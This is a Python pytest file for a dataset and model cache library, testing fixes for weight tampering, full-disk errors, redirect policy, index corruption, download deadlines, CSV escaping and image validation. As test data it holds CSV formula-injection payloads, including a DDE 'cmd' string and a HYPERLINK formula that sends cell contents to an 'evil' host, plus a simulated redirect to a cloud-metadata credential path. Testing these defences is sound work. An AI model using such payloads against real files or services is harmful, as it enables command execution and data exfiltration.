"""Issue 12: one test per defect of the trust-boundary and fault campaign (2-4, 6-12).

Each test was written before its fix and failed then (the report of the change lists the
failure lines). Servers are real (the emulator, or a few-line ``http.server`` where a
test needs a host that misbehaves in one exact way); a full disk is a real size-limited
tmpfs where this machine lets a test mount one, else an injected ``OSError(ENOSPC)`` at
the shard write layer.
"""

from __future__ import annotations

import csv
import errno
import hashlib
import io
import os
import shutil
import socket
import sqlite3
import struct
import subprocess
import sys
import textwrap
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from PIL import Image

from pad_assets import errors as E
from pad_assets.dataset import CachedDataset
from pad_assets.devtools.emulator import DatasetSpec, Emulator, ModelArtifact
from pad_assets.errors import (
    CacheCorruptionError,
    FetchError,
    ImageDecodeError,
    ModelError,
    OfflineError,
    PadAssetsError,
)
from pad_assets.maintenance import gc, reindex, verify
from pad_assets.models import PADTensorFlowAdapter
from pad_assets.models import runtime as runtime_mod
from pad_assets.preprocessing.decode import check_image
from pad_assets.preprocessing.nn import PADNeuralNetworkPipeline
from pad_assets.settings import Settings
from pad_assets.sources.http import HttpClient
from pad_assets.store import ContentStore, NewItem
from pad_assets.store import shards as shard_io
from pad_assets_tests.conftest import make_config
from pad_assets_tests.model_fixtures import TINY_DRUG_LABELS

pytest_plugins = ["pad_assets_tests.model_fixtures"]

DATASET = "trust6"
CARDS = list(range(65000, 65006))
MODEL_ID = 16


# ------------------------------------------------------------------------------ helpers
@pytest.fixture(scope="module")
def emu(tiny_tflite_path: Path) -> Iterator[Emulator]:
    art = ModelArtifact({"id": MODEL_ID, "name": "tiny_nn", "type": "tf_lite",
                         "labels": TINY_DRUG_LABELS}, "tiny.tflite",
                        tiny_tflite_path.read_bytes())
    with Emulator(make_config([DatasetSpec(DATASET, CARDS)], models=[art])) as e:
        e.warm()
        yield e


def _settings(emu: Emulator, cache: Path, **kw: Any) -> Settings:
    kw.setdefault("http_retries", 1)
    return Settings(cache_dir=cache, api_url=emu.base_url, registry_url=emu.registry_url,
                    **kw)


def _predictions(emu: Emulator, cache: Path, **kw: Any) -> pd.DataFrame:
    s = _settings(emu, cache, **kw)
    ds = CachedDataset(DATASET, settings=s, progress=False)
    try:
        df = ds.apply_model(PADTensorFlowAdapter(model_id=MODEL_ID, settings=s))
    finally:
        ds.close()
    return df.set_index("card_id")[["prediction", "probability", "status",
                                     "model_signature"]].sort_index()


@pytest.fixture(scope="module")
def reference(emu: Emulator, tmp_path_factory: pytest.TempPathFactory) -> pd.DataFrame:
    return _predictions(emu, tmp_path_factory.mktemp("ref") / "c")


def _png(width: int = 8, height: int = 8) -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", (width, height), (200, 30, 30)).save(buf, "PNG")
    return buf.getvalue()


class _OneShotServer:
    """A 127.0.0.1 HTTP server whose GET answers come from ``answer(handler, n)``."""

    def __init__(self, answer: Any) -> None:
        self.hits: list[tuple[float, str]] = []
        outer = self

        class H(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *a: Any) -> None:
                pass

            def do_GET(self) -> None:  # noqa: N802 (http.server's name)
                outer.hits.append((time.monotonic(), self.path))
                status, headers, body = answer(self, len(outer.hits))
                self.send_response(status)
                for k, v in {"Content-Length": str(len(body)), **headers}.items():
                    self.send_header(k, v)
                self.end_headers()
                self.wfile.write(body)

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), H)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


# ------------------------------------------------------------------ defect 2: weights
def test_tampered_weights_copy_is_detected_restored_and_never_predicts(
        emu: Emulator, reference: pd.DataFrame, tiny_tflite_other_weights_path: Path,
        tmp_path: Path) -> None:
    cache = tmp_path / "c"
    first = _predictions(emu, cache)
    pd.testing.assert_frame_equal(first, reference)
    artifacts = list((cache / "artifacts").glob("*.tflite"))
    assert len(artifacts) == 1
    # Another valid model's bytes under the right name: loads fine, predicts differently.
    artifacts[0].write_bytes(tiny_tflite_other_weights_path.read_bytes())
    store = ContentStore(cache)
    try:
        rep = verify(store)
        assert not rep.ok and "artifact_mismatch" in rep.counts, rep.counts
    finally:
        store.close()
    # predictions are wiped so they must be recomputed with whatever weights load
    store = ContentStore(cache)
    with store.index.transaction() as con:
        con.execute("DELETE FROM items WHERE layer='prediction'")
    store.close()
    runtime_mod.clear_runner_cache()
    again = _predictions(emu, cache, offline=True)
    pd.testing.assert_frame_equal(again, reference)  # the copy was restored from the store
    # a runner never runs weights that do not hash to the signature it is asked for
    bad = tmp_path / "bad.tflite"
    bad.write_bytes(tiny_tflite_other_weights_path.read_bytes())
    with pytest.raises(ModelError, match="sha256"):
        runtime_mod.TFLiteRunner(bad, artifacts[0].name.split(".")[0])
    store = ContentStore(cache)
    try:
        assert verify(store).ok
    finally:
        store.close()


# ------------------------------------------------------------------ defect 3: full disk
def _mount_tmpfs(path: Path, size: str) -> bool:
    path.mkdir(parents=True, exist_ok=True)
    if (os.geteuid() != 0 or shutil.which("mount") is None
            or os.environ.get("PAD_TEST_NO_MOUNT")):  # (the fallback, tried on purpose)
        return False
    r = subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(path)],
                       capture_output=True, text=True)
    return r.returncode == 0


def _umount(path: Path) -> None:
    subprocess.run(["umount", "-l", str(path)], capture_output=True)


@pytest.fixture
def small_disk(tmp_path: Path) -> Iterator[Path | None]:
    """A 6 MB tmpfs (None when this machine does not let the test mount one)."""
    mnt = tmp_path / "small_disk"
    ok = _mount_tmpfs(mnt, "6m")
    yield mnt if ok else None
    if ok:
        _umount(mnt)


DISK_WORKER = textwrap.dedent("""
    import sys, json
    import pad_assets.layers.raw as raw_layer
    raw_layer.WRITE_BATCH_ITEMS = 3
    from pad_assets.dataset import CachedDataset
    from pad_assets.settings import Settings
    from pad_assets.errors import PadAssetsError
    from pad_assets.store import ContentStore
    from pad_assets.maintenance import gc, verify
    what, cache, api, registry, dataset = sys.argv[1:6]
    s = Settings(cache_dir=cache, api_url=api, registry_url=registry, http_retries=1,
                 download_workers=2)
    try:
        if what == "download":
            ds = CachedDataset(dataset, settings=s, progress=False)
            print("SUMMARY", ds.download_and_cache())
        elif what == "gc":
            print(gc(ContentStore(cache), max_size="3MB"))
        elif what == "verify":
            print(verify(ContentStore(cache)))
    except PadAssetsError as exc:
        print("ERROR", type(exc).__name__, exc)
        sys.exit(3)
""")


def _run_disk_worker(what: str, cache: Path, emu: Emulator) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-c", DISK_WORKER, what, str(cache), emu.base_url,
                           emu.registry_url, DATASET], capture_output=True, text=True,
                          timeout=180, env={**os.environ, "PAD_OFFLINE": ""})


def test_full_disk_gives_cache_full_error_and_gc_frees_space(
        emu: Emulator, small_disk: Path | None, tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    if small_disk is None:
        # No mount here: inject ENOSPC at the write layer (same code path from there on).
        def full(fd: int, data: Any) -> int:
            raise OSError(errno.ENOSPC, "No space left on device")

        monkeypatch.setattr(shard_io, "_write_bytes", full)
        ds = CachedDataset(DATASET, settings=_settings(emu, tmp_path / "c"), progress=False)
        with pytest.raises(E.CacheFullError, match="gc"):
            ds.download_and_cache()
        assert not list((tmp_path / "c" / "tmp").glob("*.partial"))
        ds.close()
        return
    cache = small_disk / "cache"
    run = _run_disk_worker("download", cache, emu)  # 6 cards x 1.45 MB > 6 MB
    assert run.returncode == 3, (run.returncode, run.stdout, run.stderr[-3000:])
    assert "Traceback" not in run.stderr
    assert "CacheFullError" in run.stdout and str(cache) in run.stdout
    assert "gc" in run.stdout and "MB" in run.stdout, run.stdout
    assert not list((cache / "tmp").glob("*.partial")), "partial file of a failed write left"
    # the disk is full (what failed left nothing behind) and verify still runs read-only
    check = _run_disk_worker("verify", cache, emu)
    assert check.returncode == 0, (check.stdout, check.stderr[-3000:])
    assert "no problems found" in check.stdout
    con = sqlite3.connect(cache / "index.sqlite3")
    assert con.execute("SELECT name FROM sqlite_master WHERE name='ops_retired_shards'"
                       ).fetchall() == []  # a read-only check created nothing
    con.close()
    freed = _run_disk_worker("gc", cache, emu)
    assert freed.returncode == 0, (freed.returncode, freed.stdout, freed.stderr[-3000:])
    assert shutil.disk_usage(small_disk).free > 2 * 2**20
    assert verify(ContentStore(cache)).ok


def test_gc_on_a_full_disk_deletes_before_it_rewrites(
        emu: Emulator, small_disk: Path | None, tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    if small_disk is None:  # no mount here: the disk takes small writes, no shard of images
        cache = tmp_path / "c"
        ds = CachedDataset(DATASET, settings=_settings(emu, cache), progress=False)
        ds.download_and_cache()
        ds.close()

        def full(fd: int, data: Any) -> int:
            if len(data) > 200_000:
                raise OSError(errno.ENOSPC, "No space left on device")
            return os.write(fd, data)

        monkeypatch.setattr(shard_io, "_write_bytes", full)
        store = ContentStore(cache)
        before = sum(p.stat().st_size for p in (cache / "shards").rglob("*.h5"))
        gc(store, max_size="3MB", grace_seconds=0)
        after = sum(p.stat().st_size for p in (cache / "shards").rglob("*.h5"))
        assert after < before
        monkeypatch.undo()
        assert verify(store).ok
        store.close()
        return
    cache = small_disk / "cache"
    run = _run_disk_worker("download", cache, emu)
    assert run.returncode == 3, run.stdout

    def fill(leave: int) -> Path:
        filler = small_disk / f"filler{leave}"
        with open(filler, "wb") as fh:
            while shutil.disk_usage(small_disk).free > leave + 4096:
                try:
                    fh.write(b"\0" * 4096)
                    fh.flush()
                except OSError:
                    break
        return filler

    # nothing at all free: a clear error (SQLite cannot even open its shared memory)
    everything = fill(0)
    refused = _run_disk_worker("gc", cache, emu)
    assert refused.returncode == 3 and "Traceback" not in refused.stderr, refused.stderr[-3000:]
    assert "full" in refused.stdout and str(cache) in refused.stdout, refused.stdout
    everything.unlink()
    # what a full cache leaves (less than one shard): gc frees space without crashing
    filler = fill(300_000)
    before = shutil.disk_usage(small_disk).free
    freed = _run_disk_worker("gc", cache, emu)
    assert freed.returncode == 0, (freed.stdout, freed.stderr[-3000:])
    assert shutil.disk_usage(small_disk).free > before + 1_000_000, freed.stdout
    filler.unlink()
    assert verify(ContentStore(cache)).ok


def test_import_on_a_full_disk_is_a_clear_error_and_leaves_nothing(
        emu: Emulator, small_disk: Path | None, tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    from pad_assets.sharing import export_bundle, import_bundle

    ds = CachedDataset(DATASET, settings=_settings(emu, tmp_path / "src"), progress=False)
    ds.download_and_cache()
    export_bundle(ds.store, DATASET, out=tmp_path / "bundle")  # 8.7 MB of images
    ds.close()
    if small_disk is None:
        def full(fd: int, data: Any) -> int:
            raise OSError(errno.ENOSPC, "No space left on device")

        monkeypatch.setattr(shard_io, "_write_bytes", full)
    cache = (small_disk or tmp_path) / "cache"
    store = ContentStore(cache)
    with pytest.raises(E.CacheFullError) as err:
        import_bundle(store, tmp_path / "bundle")
    assert f"cache {cache}:" in str(err.value) and "gc" in str(err.value)
    assert not [p for p in (cache / "tmp").iterdir()] if (cache / "tmp").exists() else True
    monkeypatch.undo()
    assert verify(store).ok and store.cards(DATASET) == {}
    store.close()


# ------------------------------------------------------------------ defect 4: redirects
def test_redirects_must_pass_the_url_policy_and_the_source_is_where_bytes_came_from(
        emu: Emulator, tmp_path: Path) -> None:
    secret = _OneShotServer(lambda h, n: (200, {}, b"iam-credentials"))
    a, b = CARDS[0], CARDS[1]
    path_a = emu.image_url(a).split(emu.base_url, 1)[1].replace("//", "/")
    path_b = emu.image_url(b).split(emu.base_url, 1)[1].replace("//", "/")
    moved_b = path_b.replace("/var/www/html", "")  # the same card's file, other URL form
    emu.config.redirects.update({path_a: f"{secret.url}/latest/meta-data/iam",
                                 path_b: moved_b})
    try:
        ds = CachedDataset(DATASET, settings=_settings(emu, tmp_path / "c"), progress=False)
        summary = ds.download_and_cache(card_ids=[a, b])
        lineage = ds.store.metas([ds.cards().set_index("card_id").loc[b, "raw_key"]])
        ds.close()
    finally:
        emu.config.redirects.clear()
        secret.close()
    assert secret.hits == [], "a redirect to another host was followed"
    assert a in summary.failed and "redirect" in summary.failed[a], summary.failed
    assert b in summary.downloaded
    (meta,) = lineage.values()
    assert meta["source_url"] == f"{emu.base_url}{moved_b}"


# ------------------------------------------------------------------ defect 6: index
def test_reindex_rebuilds_an_index_with_a_zeroed_header(emu: Emulator, tmp_path: Path
                                                        ) -> None:
    cache = tmp_path / "c"
    ds = CachedDataset(DATASET, settings=_settings(emu, cache), progress=False)
    ds.download_and_cache(card_ids=CARDS[:2])
    ds.close()
    index = cache / "index.sqlite3"
    with open(index, "r+b") as fh:
        fh.write(b"\0" * 100)
    with pytest.raises(CacheCorruptionError, match="reindex"):
        verify(ContentStore(cache, recover=False))
    store = ContentStore(cache, recover=False)
    rep = reindex(store)
    assert rep.replaced_corrupt_index and rep.cards == 2 and rep.items >= 3, str(rep)
    assert verify(store).ok
    store.close()
    cli = subprocess.run([sys.executable, "-m", "pad_assets.cli", "cache", "verify"],
                         capture_output=True, text=True, timeout=120,
                         env={**os.environ, "PAD_CACHE_DIR": str(cache)})
    assert cli.returncode == 0 and "Traceback" not in cli.stderr, cli.stderr[-2000:]


# ------------------------------------------------------------------ defect 7: lost model
def test_repair_re_resolves_a_lost_model_record_or_says_what_is_missing(
        emu: Emulator, reference: pd.DataFrame, tmp_path: Path) -> None:
    cache = tmp_path / "c"
    pd.testing.assert_frame_equal(_predictions(emu, cache), reference)
    store = ContentStore(cache)
    (shard,) = {s for (s,) in store.index.query(
        "SELECT shard FROM items WHERE layer IN ('model_record', 'weights')")}
    rel = store.index.shard_paths()[shard]
    store.close()
    (cache / rel).unlink()  # the shard holding the record and the weights is lost
    shutil.rmtree(cache / "artifacts")
    offline = verify(ContentStore(cache), repair=True,
                     settings=_settings(emu, cache, offline=True))
    text = "\n".join(offline.unrepaired)
    assert not offline.ok and f"model {MODEL_ID}" in text and "offline" in text, text
    with pytest.raises(OfflineError, match=f"model {MODEL_ID}"):
        PADTensorFlowAdapter(model_id=MODEL_ID, settings=_settings(emu, cache, offline=True))
    online = verify(ContentStore(cache), repair=True, settings=_settings(emu, cache))
    assert online.ok, (online.unrepaired, online.remaining)
    assert any(f"model {MODEL_ID}" in r for r in online.repaired), online.repaired
    pd.testing.assert_frame_equal(_predictions(emu, cache, offline=True), reference)


# ------------------------------------------------------------------ defect 8: gc + readers
def test_a_reader_never_sees_items_vanish_when_gc_runs_mid_iteration(
        emu: Emulator, tmp_path: Path) -> None:
    cache = tmp_path / "c"
    s = _settings(emu, cache)
    ds = CachedDataset(DATASET, settings=s, progress=False)
    ds.download_and_cache()
    pipeline = PADNeuralNetworkPipeline()
    expected = {ids[0]: arr.copy() for batch in ds.get_preprocessed_batch(pipeline, 1)
                for arr, ids in [(batch.arrays[0], batch.card_ids)]}
    original = ds.derived.ensure
    runs = []

    def ensure_then_gc(*a: Any, **k: Any) -> Any:
        out = original(*a, **k)
        if not runs:  # deterministic: right after the chain is resolved, before the reads
            other = ContentStore(cache)
            runs.append(gc(other, older_than=0, grace_seconds=0))
            other.close()
        return out

    ds.derived.ensure = ensure_then_gc  # type: ignore[method-assign]
    got = {}
    for batch in ds.get_preprocessed_batch(pipeline, batch_size=2):
        for arr, cid in zip(batch.arrays, batch.card_ids, strict=True):
            got[cid] = arr
    ds.close()
    assert runs and sum(runs[0].evicted.values()) > 0, "gc evicted nothing: no test"
    assert sorted(got) == sorted(expected)
    for cid, arr in expected.items():
        assert (got[cid] == arr).all()


# ------------------------------------------------------------------ defect 9: deadline
def test_a_trickling_server_is_cut_off_by_a_total_deadline(emu: Emulator) -> None:
    emu.config.trickle_bytes_per_s = 20_000  # a 1.45 MB card would take ~70 s
    try:
        http = HttpClient(timeout=2.0, retries=0, deadline=3.0)
        t0 = time.monotonic()
        with pytest.raises(FetchError, match="deadline"):
            http.get_bytes(emu.image_url(CARDS[0]).replace("//var", "/var"), what="card image")
        assert time.monotonic() - t0 < 8.0
    finally:
        emu.config.trickle_bytes_per_s = 0.0


def test_retry_after_is_honoured(tmp_path: Path) -> None:
    def answer(h: Any, n: int) -> tuple[int, dict[str, str], bytes]:
        return (503, {"Retry-After": "1"}, b"busy") if n == 1 else (200, {}, b"ok")

    srv = _OneShotServer(answer)
    try:
        assert HttpClient(retries=2, backoff=0.01).get_bytes(f"{srv.url}/x") == b"ok"
    finally:
        srv.close()
    assert len(srv.hits) == 2 and srv.hits[1][0] - srv.hits[0][0] >= 0.95


def test_a_network_error_names_the_fix() -> None:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]  # closed once the block ends: nothing listens
    with pytest.raises(FetchError) as err:
        HttpClient(retries=0).get_bytes(f"http://127.0.0.1:{port}/api/v2/cards")
    text = str(err.value)
    assert f"no route to the PAD API at http://127.0.0.1:{port}" in text
    assert "pad-assets emulator" in text and "PAD_OFFLINE=1" in text


# ------------------------------------------------------------------ defect 10: CSV
def _csv_cells(files: list[Path]) -> list[str]:
    cells = []
    for f in files:
        for row in csv.reader(io.StringIO(f.read_text(encoding="utf-8"))):
            for cell in row:
                assert not cell.startswith(("=", "+", "@")), (f.name, cell)
                cells.append(cell)
    return cells


def test_registry_text_is_escaped_in_audit_csvs(tmp_path: Path, tiny_tflite_path: Path
                                                ) -> None:
    from pad_assets.csv_safety import escape_cell
    from pad_assets.devtools.emulator.synthetic import CardAttributes
    from pad_assets.provenance.audit import export_audit

    for bad in ("=HYPERLINK(\"http://x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
                "\tx", "\rx"):
        assert escape_cell(bad) == "'" + bad
    assert escape_cell(-2.5) == -2.5 and escape_cell("ok") == "ok"
    # the audit of a dataset whose registry names a drug "=HYPERLINK(...)"
    evil = CardAttributes(drug='=HYPERLINK("http://evil/?"&A1)', quantity=100,
                          camera="c", sample_id=1)
    with Emulator(make_config([DatasetSpec("evil2", [66000, 66001])], models=[],
                              card_overrides={66000: evil})) as e:
        ds = CachedDataset("evil2", settings=_settings(e, tmp_path / "c"), progress=False)
        ds.apply_model(PADTensorFlowAdapter(model_path=tiny_tflite_path,
                                            labels=TINY_DRUG_LABELS))
        path = export_audit(ds, tmp_path / "audit")["csv"]
        ds.close()
    assert "'" + evil.drug in _csv_cells([path])


def test_registry_text_is_escaped_in_comparison_csvs(tmp_path: Path) -> None:
    from pad_assets.comparison import compare_results

    rows = []
    for cid, drug in ((1, "=cmd()"), (2, "amoxicillin"), (3, "@evil"), (4, "=cmd()")):
        rows.append({"card_id": cid, "split": "test", "drug": drug, "quantity": 100,
                     "actual": drug, "model": "m", "pipeline": "p", "prediction": drug,
                     "probability": 0.9, "energy": -1.5, "label_type": "drug",
                     "status": "ok", "detail": "", "truncated": False,
                     "raw_key": f"{cid:064x}", "preprocessed_key": "a", "tensor_key": "b",
                     "prediction_key": "c", "cached": True, "model_signature": "s"})
    report = compare_results({"m": pd.DataFrame(rows)}, dataset="d", n_bootstrap=20)
    report.write(tmp_path / "r")
    cells = _csv_cells(sorted((tmp_path / "r").glob("*.csv")))
    assert "'=cmd()" in cells and "'@evil" in cells, cells
    from pad_assets.csv_safety import escape_frame

    frame = escape_frame(pd.DataFrame({"x": [-1.5], "s": ["-x"]}))  # numbers stay numbers
    assert frame["x"].tolist() == [-1.5] and frame["s"].tolist() == ["'-x"]
    assert "=cmd()" in report.per_class["m"].to_string()  # the report itself is unchanged


# ------------------------------------------------------------------ defect 11: formats
def _bmp() -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", (8, 8)).save(buf, "BMP")
    return buf.getvalue()


EPS = (b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 8 8\n%%EndComments\n"
       b"newpath 0 0 moveto 8 8 lineto stroke\nshowpage\n%%EOF\n")


def _bad_crc_png() -> bytes:
    data = bytearray(_png(64, 64))
    idat = data.index(b"IDAT")
    length = struct.unpack(">I", data[idat - 4:idat])[0]
    data[idat + 4 + length // 2] ^= 0xFF  # damage the compressed data; the CRC stays old
    return bytes(data)


@pytest.mark.parametrize("name,data", [("bmp", _bmp()), ("eps", EPS)], ids=["bmp", "eps"])
def test_only_png_and_jpeg_are_decoded(name: str, data: bytes) -> None:
    with pytest.raises(ImageDecodeError, match="PNG or JPEG"):
        check_image(data, source=f"a {name}")


def test_a_png_with_a_bad_crc_is_a_failed_download_not_truncated() -> None:
    with pytest.raises(ImageDecodeError, match="CRC"):
        check_image(_bad_crc_png(), source="card 1")
    png = _png(64, 64)
    assert check_image(png[: len(png) - 30]) is True  # a cut file is still "truncated"
    assert check_image(png) is False


# ------------------------------------------------------------------ defect 12: clear errors
def test_writes_on_a_full_disk_raise_cache_full_error_naming_cache_and_gc(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    store = ContentStore(tmp_path / "c")
    store.put([NewItem(hashlib.sha256(b"x" * 1000).hexdigest(), "asset_value", b"x" * 1000)])

    def full(fd: int, data: Any) -> int:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(shard_io, "_write_bytes", full)
    with pytest.raises(E.CacheFullError) as err:
        store.put([NewItem(hashlib.sha256(b"y" * 5000).hexdigest(), "asset_value",
                           b"y" * 5000)])
    text = str(err.value)
    assert str(tmp_path / "c") in text and "pad-assets cache gc" in text
    assert isinstance(err.value, PadAssetsError)
    assert not list((tmp_path / "c" / "tmp").glob("*.partial"))
    monkeypatch.undo()
    assert verify(store).ok
    store.close()
